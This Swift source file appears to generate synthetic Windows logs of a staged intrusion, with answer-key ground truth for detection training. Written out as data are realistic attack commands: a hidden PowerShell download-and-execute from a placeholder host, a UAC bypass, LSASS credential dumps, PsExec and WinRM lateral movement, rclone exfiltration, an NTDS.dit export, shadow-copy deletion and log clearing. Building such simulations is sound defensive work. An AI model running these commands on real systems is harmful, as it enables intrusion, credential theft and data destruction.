import Vocabulary

/// The sample's intrusion: a macro document, stolen credentials, two movements, data theft, the domain, the traces.
///
/// It is played on a stage that ordinary life has already been played on. Each act begins at its place in the story,
/// moved by up to some minutes that depend on the seed.
struct IntrusionStory {
    var stage: Stage
    var truth = Truth()
    /// The moment of the story.
    private(set) var now: Timestamp
    private let desk: Desk
    private let newAdministrator: Account

    private static let delivery = (name: "cdn.update-check.example", address: "203.0.113.66")
    private static let control = (name: "api.telemetry-sync.example", address: "198.51.100.24")
    private static let storage = (name: "storage.bluecrate.example", address: "198.51.100.77")

    /// - Parameter desk: The programs of the user who will open the document.
    init(stage: Stage, desk: Desk) {
        self.stage = stage
        self.desk = desk
        now = stage.start
        newAdministrator = Account(
            name: "svc-health", domain: stage.world.domain.shortName, sid: stage.world.domain.sid.account(1187))
    }

    mutating func play() {
        let implant = openDocument()
        persist(implant)
        beacon(implant)
        discover(implant)
        let elevated = elevate(implant)
        stealCredentials(elevated)
        let shell = moveToFileServer(elevated)
        stealServerCredentials(shell)
        collect(shell)
        exfiltrate(shell)
        let remote = moveToController(shell)
        stealDirectory(remote)
        createAdministrator(remote)
        deleteShadowCopies(remote)
        clearLog(remote)
        truth.steps = IntrusionStep.allCases.map { Truth.Step(name: $0.rawValue, techniques: $0.techniques) }
    }

    // MARK: On the workstation

    private mutating func openDocument() -> Process {
        begin(.macroDocument, hours: 4, minutes: 41)
        let document =
            "C:\\Users\\jmoreau\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3W9QZ1T\\Invoice_2231.docm"
        stage.workstation.createFile(document, by: desk.mail, at: now)
        let word = stage.workstation.start(
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"\(document)\" /o \"\"",
            by: desk.mail, at: after(3...9))
        let script =
            "IEX (New-Object Net.WebClient).DownloadString('http://\(Self.delivery.name)/u/' + $env:COMPUTERNAME)"
        let loader = stage.workstation.start(
            Tool.powerShell, "powershell.exe -nop -w hidden -enc \(encodedCommand(script))", by: word,
            in: "C:\\Users\\jmoreau\\Documents\\", at: after(8...25))
        let implantPath = Tool.implant
        truth.patientZero = TechniqueID("T1566.001").map {
            Truth.PatientZero(
                host: stage.world.workstation.name, technique: $0, entry: "Invoice_2231.docm, by mail", time: now)
        }
        fell(stage.world.workstation, from: nil, by: "macro document")
        used(stage.world.user)
        stage.workstation.runScript(script, in: loader, suspicious: true, at: after(1...2))
        stage.workstation.resolve(Self.delivery.name, to: Self.delivery.address, by: loader, at: after(1...2))
        stage.workstation.connect(
            loader, from: stage.workstation.freshPort(), to: Self.delivery.address, name: Self.delivery.name, port: 80,
            at: now.advanced(byMilliseconds: 90))
        stage.workstation.createFile(implantPath, by: loader, at: after(2...5))
        let implant = stage.workstation.start(
            implantPath, "\"\(implantPath)\"", by: loader, in: "C:\\Users\\jmoreau\\AppData\\Roaming\\OneDriveSync\\",
            at: after(1...3))
        stage.workstation.end(loader, at: after(2...4))
        tool(implantPath, on: stage.world.workstation)
        truth.commandAndControl = [
            Self.delivery.name, Self.delivery.address, Self.control.name, Self.control.address,
        ]
        truth.exfiltration = [Self.storage.name, Self.storage.address]
        return implant
    }

    private mutating func persist(_ implant: Process) {
        begin(.persistence)
        let user = stage.world.user
        stage.workstation.setRegistry(
            "HKU\\\(user.sid)\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync", to: implant.image,
            by: implant, at: after(20...60))
        _ = stage.workstation.start(
            Tool.schtasks, "schtasks /create /f /sc onlogon /tn OneDriveSync /tr \"\(implant.image)\"", by: implant,
            at: after(5...20))
        stage.workstation.createTask(
            "\\OneDriveSync", command: implant.image, by: implant.session, at: now.advanced(byMilliseconds: 210))
    }

    /// The implant calls home about every half hour, until the users come back on the second day.
    private mutating func beacon(_ implant: Process) {
        begin(.commandAndControl)
        let story = now
        now = now.advanced(bySeconds: 30)
        while now < stage.moment(hours: 26) {
            stage.workstation.resolve(Self.control.name, to: Self.control.address, by: implant, at: now)
            stage.workstation.connect(
                implant, from: stage.workstation.freshPort(), to: Self.control.address, name: Self.control.name,
                port: 443, at: now.advanced(byMilliseconds: 60))
            now = after(1_500...2_100)
        }
        now = story
    }

    private mutating func discover(_ implant: Process) {
        begin(.discovery, hours: 5, minutes: 16)
        let commands = [
            (Tool.system("whoami.exe"), "whoami /all"), (Tool.system("ipconfig.exe"), "ipconfig /all"),
            (Tool.system("systeminfo.exe"), "systeminfo"),
            (Tool.system("net.exe"), "net group \"Domain Admins\" /domain"),
            (Tool.system("nltest.exe"), "nltest /dclist:\(stage.world.domain.name)"),
            (Tool.system("net.exe"), "net view \\\\\(stage.world.fileServer.name) /all"),
        ]
        for (image, command) in commands {
            let shell = stage.workstation.start(Tool.shell, "cmd.exe /c \(command)", by: implant, at: after(15...70))
            let child = stage.workstation.start(image, command, by: shell, at: now.advanced(byMilliseconds: 40))
            stage.workstation.end(child, at: now.advanced(byMilliseconds: 900))
            stage.workstation.end(shell, at: now.advanced(byMilliseconds: 930))
        }
        let listing = stage.workstation.start(
            Tool.system("net.exe"), "net localgroup administrators", by: implant, at: after(15...70))
        let second = stage.workstation.start(
            Tool.system("net1.exe"), "C:\\Windows\\system32\\net1 localgroup administrators", by: listing,
            at: now.advanced(byMilliseconds: 30))
        stage.workstation.listAdministrators(by: second, at: now.advanced(byMilliseconds: 55))
    }

    private mutating func elevate(_ implant: Process) -> Process {
        begin(.elevation, hours: 6, minutes: 52)
        let key = "HKU\\\(stage.world.user.sid)_Classes\\ms-settings\\shell\\open\\command\\"
        stage.workstation.setRegistry(key + "(Default)", to: implant.image, by: implant, at: now)
        stage.workstation.setRegistry(key + "DelegateExecute", to: "(Empty)", by: implant, at: after(1...2))
        let helper = stage.workstation.start(
            Tool.system("fodhelper.exe"), "\"C:\\Windows\\System32\\fodhelper.exe\"", by: implant, integrity: .high,
            at: after(1...3))
        return stage.workstation.start(implant.image, "\"\(implant.image)\"", by: helper, at: after(1...2))
    }

    private mutating func stealCredentials(_ elevated: Process) {
        begin(.credentialTheft, hours: 7, minutes: 5)
        let dump = "C:\\Users\\Public\\lsass.dmp"
        let target = stage.workstation.securityAuthority
        let dumper = stage.workstation.start(
            Tool.system("rundll32.exe"),
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump \(target.id) \(dump) full", by: elevated,
            at: now)
        stage.workstation.open(
            target, by: dumper, access: 0x1F_FFFF, trace: Tool.dumpTrace + "|C:\\Windows\\System32\\comsvcs.dll+2a51",
            at: now.advanced(byMilliseconds: 160))
        stage.workstation.createFile(dump, by: dumper, at: now.advanced(byMilliseconds: 190))
        stage.workstation.end(dumper, at: after(3...6))
    }

    // MARK: To the file server

    private mutating func moveToFileServer(_ elevated: Process) -> Process {
        begin(.moveToFileServer, hours: 9, minutes: 22)
        let (source, target) = (stage.world.workstation, stage.world.fileServer)
        let account = stage.world.helpdesk
        stage.workstation.createFile(Tool.remoteShell, by: elevated, at: now)
        let launcher = stage.workstation.start(
            Tool.remoteShell,
            "C:\\Users\\Public\\ps64.exe \\\\\(target.fullName) -accepteula -u \(account.qualifiedName) -p Spring!2231 -s cmd.exe",
            by: elevated, in: "C:\\Users\\Public\\", at: after(20...60))
        let asking = Origin(address: source.address, port: stage.controller.freshPort())
        stage.controller.grantTicket(to: account, from: asking, at: now.advanced(byMilliseconds: 120))
        stage.workstation.useCredentials(
            of: account, towards: target, service: "cifs", by: launcher, at: now.advanced(byMilliseconds: 150))
        let arrival = after(1...2)
        let (session, origin) = stage.logOn(
            account, from: source, to: \.fileServer, on: 445, privileged: true, at: arrival)
        stage.workstation.connect(
            stage.workstation.kernel, from: origin.port, to: target.address, name: target.fullName, port: 445,
            at: arrival.advanced(byMilliseconds: 8))
        fell(target, from: source, by: "PsExec")
        moved(from: source, to: target, as: account, by: "PsExec", technique: "T1021.002", .moveToFileServer)
        tool(Tool.remoteShell, on: source)

        var log = stage.fileServer
        log.openShare("ADMIN$", path: "\\??\\C:\\Windows", by: session, from: origin, at: after(0...1))
        log.openShareFile(
            "PSEXESVC.exe", of: "ADMIN$", path: "\\??\\C:\\Windows", write: true, by: session, from: origin,
            at: now.advanced(byMilliseconds: 30))
        log.createFile("C:\\Windows\\PSEXESVC.exe", by: log.kernel, at: now.advanced(byMilliseconds: 60))
        log.openShare("IPC$", by: session, from: origin, at: now.advanced(byMilliseconds: 220))
        log.openShareFile(
            "svcctl", of: "IPC$", write: true, by: session, from: origin, at: now.advanced(byMilliseconds: 240))
        log.installService(
            "PSEXESVC", file: "%SystemRoot%\\PSEXESVC.exe", by: session, at: now.advanced(byMilliseconds: 400))
        log.service("PSEXESVC", running: true, at: now.advanced(byMilliseconds: 520))
        let service = log.start(
            "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", by: log.services,
            at: now.advanced(byMilliseconds: 490))
        log.pipe("\\PSEXESVC", by: service, created: true, at: now.advanced(byMilliseconds: 600))
        for stream in ["stdin", "stdout", "stderr"] {
            let pipe = "PSEXESVC-\(source.name)-\(launcher.id)-\(stream)"
            log.pipe("\\" + pipe, by: service, created: true, at: now.advanced(byMilliseconds: 700))
            log.openShareFile(
                pipe, of: "IPC$", write: true, by: session, from: origin, at: now.advanced(byMilliseconds: 720))
        }
        let shell = log.start(Tool.shell, "\"cmd.exe\"", by: service, at: after(1...2))
        log.start(Tool.system("whoami.exe"), "whoami", by: shell, at: after(4...12))
        for file in ["procdump64.exe", "rar.exe", "rclone.exe"] {
            log.openShareFile(
                "PerfLogs\\" + file, of: "C$", path: "\\??\\C:\\", write: true, by: session, from: origin,
                at: after(20...90))
            log.createFile("C:\\PerfLogs\\" + file, by: log.kernel, at: now.advanced(byMilliseconds: 45))
            tool("C:\\PerfLogs\\" + file, on: target)
        }
        stage.fileServer = log
        return shell
    }

    private mutating func stealServerCredentials(_ shell: Process) {
        begin(.serverCredentialTheft)
        let dump = "C:\\PerfLogs\\lsass_fs.dmp"
        let dumper = stage.fileServer.start(
            "C:\\PerfLogs\\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe \(dump)", by: shell,
            in: "C:\\PerfLogs\\", at: after(240...600))
        stage.fileServer.open(
            stage.fileServer.securityAuthority, by: dumper, access: 0x1F_FFFF, trace: Tool.dumpTrace,
            at: now.advanced(byMilliseconds: 210))
        stage.fileServer.createFile(dump, by: dumper, at: now.advanced(byMilliseconds: 240))
        stage.fileServer.end(dumper, at: after(3...8))
    }

    private mutating func collect(_ shell: Process) {
        begin(.collection, hours: 19, minutes: 12)
        let packer = stage.fileServer.start(
            "C:\\PerfLogs\\rar.exe",
            "rar.exe a -hpQ3close! -v500m -r C:\\PerfLogs\\out\\q3.rar D:\\Shares\\Finance D:\\Shares\\Board",
            by: shell,
            in: "C:\\PerfLogs\\", at: now)
        for part in 1...6 {
            stage.fileServer.createFile("C:\\PerfLogs\\out\\q3.part\(part).rar", by: packer, at: after(90...240))
        }
        stage.fileServer.end(packer, at: after(20...60))
    }

    private mutating func exfiltrate(_ shell: Process) {
        begin(.exfiltration, hours: 20, minutes: 4)
        let copier = stage.fileServer.start(
            "C:\\PerfLogs\\rclone.exe",
            "rclone.exe copy C:\\PerfLogs\\out crate:q3 --config C:\\PerfLogs\\r.conf --transfers 8 --no-check-certificate",
            by: shell, in: "C:\\PerfLogs\\", at: now)
        stage.fileServer.resolve(Self.storage.name, to: Self.storage.address, by: copier, at: after(1...2))
        for _ in 0..<8 {
            stage.fileServer.connect(
                copier, from: stage.fileServer.freshPort(), to: Self.storage.address, name: Self.storage.name,
                port: 443, at: after(5...200))
        }
        stage.fileServer.end(copier, at: after(300...900))
    }

    // MARK: To the domain controller

    private mutating func moveToController(_ shell: Process) -> Process {
        begin(.moveToController, hours: 20, minutes: 46)
        let (source, target) = (stage.world.fileServer, stage.world.controller)
        let account = stage.world.backup
        let console = stage.fileServer.start(Tool.powerShell, "powershell.exe -nop", by: shell, at: now)
        stage.fileServer.runScript(
            "Enter-PSSession -ComputerName \(target.fullName) -Credential $c", in: console, suspicious: false,
            at: after(20...60))
        let asking = Origin(address: source.address, port: stage.controller.freshPort())
        stage.controller.grantTicket(to: account, from: asking, at: now.advanced(byMilliseconds: 90))
        stage.fileServer.useCredentials(
            of: account, towards: target, service: "HTTP", by: console, at: now.advanced(byMilliseconds: 130))
        let arrival = after(1...2)
        let (session, origin) = stage.logOn(
            account, from: source, to: \.controller, on: 5985, privileged: true, at: arrival)
        stage.fileServer.connect(
            console, from: origin.port, to: target.address, name: target.fullName, port: 5985,
            at: arrival.advanced(byMilliseconds: 8))
        fell(target, from: source, by: "WinRM")
        moved(from: source, to: target, as: account, by: "WinRM", technique: "T1021.006", .moveToController)
        let remote = stage.controller.start(
            Tool.system("wsmprovhost.exe"), "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
            by: stage.controller.launcher, session: session, integrity: .high, at: after(1...2))
        stage.controller.start(
            Tool.system("whoami.exe"), "\"C:\\Windows\\system32\\whoami.exe\" /groups", by: remote, at: after(5...20))
        return remote
    }

    private mutating func stealDirectory(_ remote: Process) {
        begin(.domainTheft)
        let exporter = stage.controller.start(
            Tool.system("ntdsutil.exe"),
            "\"C:\\Windows\\system32\\ntdsutil.exe\" \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\ifm\" q q",
            by: remote, at: after(120...300))
        stage.controller.createFile(
            "C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit", by: exporter, at: after(8...20))
        stage.controller.createFile("C:\\Windows\\Temp\\ifm\\registry\\SYSTEM", by: exporter, at: after(1...3))
        stage.controller.end(exporter, at: after(1...3))
        // The replication of single secrets, asked for from the file server in the same account's name.
        let (session, _) = stage.logOn(
            stage.world.backup, from: stage.world.fileServer, to: \.controller, on: 135, privileged: true,
            at: after(200...400))
        for right in ["1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2"] {
            stage.controller.replicateDirectory(right: right, by: session, at: after(0...1))
        }
        stage.controller.logOff(session, at: after(10...20))
    }

    private mutating func createAdministrator(_ remote: Process) {
        begin(.newAdministrator)
        let name = newAdministrator.name
        for (command, isCreation) in [
            ("user \(name) Harbour-9921 /add /domain", true), ("group \"Domain Admins\" \(name) /add /domain", false),
        ] {
            let outer = stage.controller.start(
                Tool.system("net.exe"), "\"C:\\Windows\\system32\\net.exe\" \(command)", by: remote, at: after(60...150)
            )
            stage.controller.start(
                Tool.system("net1.exe"), "C:\\Windows\\system32\\net1 \(command)", by: outer,
                at: now.advanced(byMilliseconds: 25))
            let done = now.advanced(byMilliseconds: 70)
            if isCreation {
                stage.controller.createAccount(newAdministrator, by: remote.session, at: done)
            } else {
                stage.controller.addToDomainAdministrators(newAdministrator, by: remote.session, at: done)
            }
        }
        truth.accounts.append(Truth.Account(name: newAdministrator.qualifiedName, status: .created))
    }

    private mutating func deleteShadowCopies(_ remote: Process) {
        begin(.impact, hours: 21, minutes: 38)
        let (source, target) = (stage.world.controller, stage.world.fileServer)
        let command = "vssadmin delete shadows /all /quiet"
        let caller = stage.controller.start(
            Tool.system("wbem\\WMIC.exe"),
            "\"C:\\Windows\\System32\\Wbem\\WMIC.exe\" /node:\(target.name) /user:\(newAdministrator.qualifiedName) /password:Harbour-9921 process call create \"cmd.exe /c \(command)\"",
            by: remote, at: now)
        stage.controller.useCredentials(
            of: newAdministrator, towards: target, service: "RPCSS", by: caller, at: now.advanced(byMilliseconds: 80))
        let arrival = after(1...2)
        let (session, origin) = stage.logOn(
            newAdministrator, from: source, to: \.fileServer, on: 135, by: stage.fileServer.launcher, privileged: true,
            at: arrival)
        stage.controller.connect(
            caller, from: origin.port, to: target.address, name: target.fullName, port: 135,
            at: arrival.advanced(byMilliseconds: 8))
        moved(from: source, to: target, as: newAdministrator, by: "WMI", technique: "T1047", .impact)
        let shell = stage.fileServer.start(
            Tool.shell, "cmd.exe /c \(command)", by: stage.fileServer.management, session: session, integrity: .high,
            at: after(1...2))
        stage.fileServer.start(
            Tool.system("vssadmin.exe"), command, by: shell, at: now.advanced(byMilliseconds: 45))
        stage.fileServer.logOff(session, at: after(4...10))
    }

    private mutating func clearLog(_ remote: Process) {
        begin(.cleanUp)
        stage.controller.start(
            Tool.system("wevtutil.exe"), "\"C:\\Windows\\system32\\wevtutil.exe\" cl Security", by: remote,
            at: after(300...900))
        stage.controller.clearSecurityLog(by: remote.session, at: now.advanced(byMilliseconds: 130))
        stage.controller.end(remote, at: after(20...60))
        mark(nil)
    }

    // MARK: Bookkeeping

    /// Begins a step; it goes on from the one before where no time is given.
    private mutating func begin(_ step: IntrusionStep, hours: Int? = nil, minutes: Int = 0) {
        mark(step)
        guard let hours else { return }
        now = stage.moment(hours: hours, minutes: minutes, milliseconds: stage.random.number(0...420_000))
    }

    private mutating func mark(_ step: IntrusionStep?) {
        stage.workstation.step = step
        stage.fileServer.step = step
        stage.controller.step = step
    }

    /// Lets some seconds pass, and a part of one.
    private mutating func after(_ seconds: ClosedRange<Int>) -> Timestamp {
        now = now.advanced(byMilliseconds: stage.random.number(seconds) * 1_000 + stage.random.number(50...950))
        return now
    }

    private mutating func fell(_ host: Host, from source: Host?, by method: String) {
        truth.hosts.append(
            Truth.Host(
                name: host.name, address: host.address, firstCompromise: now, reachedFrom: source?.name,
                method: method))
    }

    private mutating func moved(
        from source: Host, to target: Host, as account: Account, by method: String, technique: String,
        _ step: IntrusionStep
    ) {
        guard let technique = TechniqueID(technique) else { return }
        truth.movements.append(
            Truth.Movement(
                time: now, from: source.name, to: target.name, account: account.qualifiedName, method: method,
                technique: technique, step: step.rawValue))
        used(account)
    }

    private mutating func used(_ account: Account) {
        guard !truth.accounts.contains(where: { $0.name == account.qualifiedName }) else { return }
        truth.accounts.append(Truth.Account(name: account.qualifiedName, status: .used))
    }

    private mutating func tool(_ path: String, on host: Host) {
        truth.tools.append(
            Truth.Tool(path: path, hosts: [host.name], hashes: FileHashes(of: path, seed: stage.workstation.seed)))
    }
}

/// Paths that the story uses again and again.
private enum Tool {
    static let shell = system("cmd.exe")
    static let schtasks = system("schtasks.exe")
    static let powerShell = system("WindowsPowerShell\\v1.0\\powershell.exe")
    static let implant = "C:\\Users\\jmoreau\\AppData\\Roaming\\OneDriveSync\\odsync.exe"
    static let remoteShell = "C:\\Users\\Public\\ps64.exe"
    static let dumpTrace =
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+32ea6|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6b2d"

    static func system(_ file: String) -> String { "C:\\Windows\\System32\\" + file }
}
